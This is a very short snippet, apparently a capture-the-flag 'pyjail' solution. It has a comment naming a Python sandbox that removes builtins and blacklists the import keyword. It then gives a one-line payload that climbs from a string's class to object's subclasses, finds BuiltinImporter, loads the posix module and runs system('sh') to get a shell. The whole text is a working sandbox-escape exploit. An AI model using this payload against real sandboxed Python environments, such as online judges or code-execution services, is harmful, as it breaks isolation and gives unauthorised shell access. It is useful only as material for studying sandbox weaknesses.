# restriction: builtins removed, import keyword blacklisted; idea: reach BuiltinImporter through __bases__ and load the posix module
[k for k in ''.__class__.__bases__[0].__subclasses__() if 'BuiltinImp' in str(k)][0].load_module('posix').system('sh')
